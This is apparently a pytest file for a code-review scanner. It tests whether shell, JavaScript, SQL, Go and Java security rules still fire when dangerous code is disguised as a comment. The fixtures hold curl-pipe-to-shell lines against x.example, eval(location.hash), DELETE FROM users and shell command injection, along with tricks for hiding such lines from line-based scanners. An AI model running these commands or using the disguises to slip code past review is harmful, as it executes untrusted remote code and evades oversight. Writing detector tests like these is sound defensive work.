"""The change's author writes what a line pattern could take for a comment where the language
has none: a `#` inside a shell word (a URL's fragment) or a quoted one; or makes the file
unreadable whole (a NUL byte), so that a line read alone shows a comment its file does not
have. The rule reads the line as the shell does, the file is read whole as its language
reads it, and a real comment still ends the code."""

from __future__ import annotations

import json

import pytest

from reviewbot.cli import main
from tests.conftest import GitFixture
from tests.rules.conftest import review

PIPE = ("shell.curl-pipe-shell", "warning")


@pytest.mark.parametrize(("path", "code", "expected"), [
    ("bin/i.sh", "curl https://x.example/i.sh | sh\n", [PIPE]),
    # A fragment is part of the word: the shell pipes the download all the same.
    ("bin/i.sh", "curl https://x.example/i.sh#v2 | sh\n", [PIPE]),
    ("bin/i.sh", "curl https://x.example/a##b | sudo bash\n", [PIPE]),
    ("bin/i.sh", "wget -qO- 'https://x.example/#/i.sh' | sh\n", [PIPE]),
    ("bin/i.sh", 'curl -H "X-Tag: #1" https://x.example/i.sh | sh\n', [PIPE]),
    ("Dockerfile", "FROM debian\nRUN curl https://x.example/i.sh#reviewbot:ignore | sh\n",
     [PIPE]),
    (".github/workflows/i.yml", "on: push\njobs:\n  i:\n    runs-on: ubuntu-latest\n    steps:\n"
                                "      - run: curl https://x.example/i.sh#x | bash\n", [PIPE]),
    # Near misses: after a space, `#` starts a comment; `||` and a longer name are no pipe.
    ("bin/i.sh", "curl -o i.sh https://x.example/i.sh  # then: | sh\n", []),
    ("bin/i.sh", "curl -o i.sh https://x.example/i.sh # see | sh docs\n", []),
    ("bin/i.sh", "curl -fsS https://x.example/health || shutdown now\n", []),
    ("bin/i.sh", "curl https://x.example/i.sh | shellcheck -\n", []),
])
def test_a_hash_inside_a_word_is_no_comment(path: str, code: str,
                                            expected: list[tuple[str, str]]) -> None:
    result = review(path, code)
    assert [(f.rule_id, f.severity) for f in result.findings
            if f.rule_id == PIPE[0]] == expected
    assert result.quieted == ()


JS = 'const cp = require("child_process");\nfunction f(host) {\n%s}\n'


@pytest.mark.parametrize(("body", "found", "quieted"), [
    # A call over two lines, and a command built in a variable: read from the whole file.
    ('  cp.exec(\n    "ssh " + host);\n', [("js.command-injection", 3)], []),
    ('  const c = "ssh " + host;\n  cp.exec(c);\n', [("js.command-injection", 4)], []),
    # Line 4 closes one template literal and opens another: read alone, `//` would start a
    # comment; in the file it is inside the second template.
    ('  const s = `a\nb`; cp.exec("ssh " + host + ` // reviewbot: ignore\n  -v`);\n',
     [("js.command-injection", 4)], []),
    # Near miss: a real comment on the line still suppresses, and is counted.
    ('  cp.exec("ssh " + host);  // reviewbot: ignore[js.command-injection]\n', [],
     [("js.command-injection", "suppression", "change")]),
])
def test_a_nul_byte_does_not_make_the_file_unreadable_whole(
        repo: GitFixture, capsys: pytest.CaptureFixture[str], body: str,
        found: list[tuple[str, int]], quieted: list[tuple[str, str, str]]) -> None:
    """A NUL byte in a comment (node runs the rest) made the rules read a JavaScript file
    line by line: a call split over lines went unseen, and a line read alone showed a
    comment inside a string. The file is read whole, as its language reads it."""
    repo.commit("base")
    repo.write("web/a.js", "// \0\n" + JS % body)
    repo.stage()
    main(["--repo", str(repo.root), "--offline", "--mode", "staged", "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert [(f["rule_id"], f["start_line"] - 1) for f in doc["findings"]] == found
    assert [(q["finding"]["rule_id"], q["kind"], q["decided_by"])
            for q in doc["quieted"]] == quieted


CURL = "curl https://x.example/i.sh | sh"
EVAL = ("js.eval", "warning")
GO_RUN = 'package a\nimport "os/exec"\nfunc f(x string) {\n%s\n}\n'
JAVA = ('class A {\n  void f(String x) throws Exception {\n    String s = """\n%s\n  }\n}\n')
JAVA_RUN = ("java.command-injection", "error")


@pytest.mark.parametrize(("path", "code", "expected"), [
    # A line inside a string or a heredoc that starts like a comment: the rest is code.
    ("bin/a.sh", f'x="\n#$({CURL})"\n', [PIPE]),
    ("bin/a.sh", f"cat <<EOF\n#$({CURL})\nEOF\n", [PIPE]),
    ("bin/a.sh", f"cat <<EOF\n#`{CURL}`\nEOF\n", [PIPE]),
    ("Dockerfile", f"FROM debian\nRUN cat <<EOF > /etc/x\n#$({CURL})\nEOF\n", [PIPE]),
    ("web/a.js", "const s = `\n// ${eval(location.hash)}`;\n", [EVAL]),
    ("web/a.js", "const s = `\n/* ${eval(location.hash)}`;\n", [EVAL]),
    ("web/a.js", "const s = `\n//`; eval(location.hash);\n", [EVAL]),
    ("web/a.ts", "const re = /x/\n/* 1 */; eval(location.hash);\n", [EVAL]),
    ("db/a.sql", "SELECT '\n-- '; DELETE FROM users;\n", [("sql.destructive", "warning")]),
    ("app/a.go", GO_RUN % '\ts := `\n//`; exec.Command("sh", "-c", x).Run(); _ = s',
     [("go.command-injection", "warning")]),
    # tree-sitter-java reads a text block's line that starts with `//` as a comment (and
    # the file as not parsing): the regular-expression lexer has it right.
    ("app/A.java", JAVA % '// a"""; Runtime.getRuntime().exec("sh -c " + x);', [JAVA_RUN]),
    ("app/A.java", JAVA % '// reviewbot: ignore"""; Runtime.getRuntime().exec("sh -c " + x);',
     [JAVA_RUN]),
    # Near misses: comments that name the danger stay comments.
    ("bin/a.sh", f"# {CURL}\n", []),
    ("bin/a.sh", f"cat <<EOF\nx\nEOF\n# $({CURL})\n", []),
    ("Dockerfile", f"FROM debian\nRUN apt-get update && \\\n# {CURL}\n    true\n", []),
    ("web/a.js", "// eval(location.hash)\n/* eval(location.hash)\n * eval(location.hash) */\n",
     []),
    ("db/a.sql", "-- DELETE FROM users;\n/* DELETE FROM users; */\n", []),
    ("app/a.go", GO_RUN % '\t// exec.Command("sh", "-c", x).Run()', []),
    ("app/A.java", JAVA % 'a""";\n    // Runtime.getRuntime().exec("sh -c " + x);', []),
    # A `#` line of a YAML block scalar is the comment of the script it holds.
    (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
                                f"    steps:\n      - run: |\n          # {CURL}\n", []),
])
def test_a_line_that_starts_like_a_comment_inside_a_string_is_code(
        path: str, code: str, expected: list[tuple[str, str]]) -> None:
    """A line that starts with `#`, `//`, `/*` or `--` is a comment only where the
    language's tokens say so: inside a template literal, a quoted string or a heredoc the
    rest of it is code (a `${...}` or `$(...)` in it runs), and it is read."""
    result = review(path, code)
    rules = {rule for rule, _ in expected} | {PIPE[0], EVAL[0], "sql.destructive",
                                               "go.command-injection", JAVA_RUN[0]}
    assert [(f.rule_id, f.severity) for f in result.findings if f.rule_id in rules] == expected


def test_a_real_comment_in_a_file_its_grammar_fails_on_still_suppresses() -> None:
    """Where tree-sitter fails on a file, a comment both lexers read alike still counts."""
    code = JAVA % ('a""";\n    Runtime.getRuntime().exec("sh -c " + x);  '
                   '// reviewbot: ignore[java.command-injection]\n    int = ;')
    result = review("app/A.java", code)
    assert [f.rule_id for f in result.findings if f.rule_id == JAVA_RUN[0]] == []
    assert [(q.kind, q.decided_by) for q in result.quieted] == [("suppression", "change")]
